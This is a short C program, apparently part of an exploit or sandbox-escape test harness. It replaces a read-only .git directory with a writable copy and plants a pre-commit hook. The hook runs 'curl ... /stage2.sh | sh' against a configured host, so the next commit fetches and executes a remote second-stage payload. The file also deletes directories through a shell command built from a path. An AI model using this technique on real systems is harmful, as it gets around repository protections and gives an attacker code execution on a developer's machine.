/* git-dir-swap: .git is read-only? Move it aside and put a writable copy,
 * with a pre-commit hook, in its place (the copy is shallow: HEAD, config
 * and the hooks directory, which is all git needs to run the hook). */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "targets.h"

static void copy(const char *from, const char *to)
{
	char buf[4096];
	int in = open(from, O_RDONLY),
	    out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	ssize_t n;

	while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	if (in >= 0)
		close(in);
	if (out >= 0)
		close(out);
}

int main(int argc, char **argv)
{
	char git[1100], orig[1100], a[1200], b[1200];
	int fd;

	targets_load(argc, argv);
	snprintf(git, sizeof(git), "%s/.git", target("T_WORK"));
	snprintf(orig, sizeof(orig), "%s/.git.orig", target("T_WORK"));
	snprintf(a, sizeof(a), "rm -rf '%s'", orig);
	if (system(a) != 0 || rename(git, orig) < 0) {
		perror("rename .git");
		return 1;
	}
	mkdir(git, 0755);
	snprintf(a, sizeof(a), "%s/hooks", git);
	mkdir(a, 0755);
	snprintf(a, sizeof(a), "%s/HEAD", orig);
	snprintf(b, sizeof(b), "%s/HEAD", git);
	copy(a, b);
	snprintf(a, sizeof(a), "%s/config", orig);
	snprintf(b, sizeof(b), "%s/config", git);
	copy(a, b);
	snprintf(a, sizeof(a), "%s/hooks/pre-commit", git);
	if ((fd = open(a, O_WRONLY | O_CREAT | O_TRUNC, 0755)) < 0) {
		perror(a);
		return 1;
	}
	dprintf(fd, "#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n",
	        target("T_TCP_HOST"), target("T_TCP_PORT"));
	close(fd);
	return 0;
}
